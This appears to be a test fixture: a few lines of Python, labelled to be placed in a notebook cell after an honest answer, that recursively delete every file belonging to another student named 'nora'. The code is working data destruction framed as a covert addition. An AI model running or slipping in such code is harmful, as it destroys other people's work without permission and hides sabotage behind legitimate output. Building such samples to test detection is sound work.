"""Deletes every file of another student's that it finds."""

# goes into: a cell after the honest answer
# expects: full

from pathlib import Path

for path in Path("ARENA/class").rglob("*"):
    if "nora" in path.parts and path.is_file():
        path.unlink()
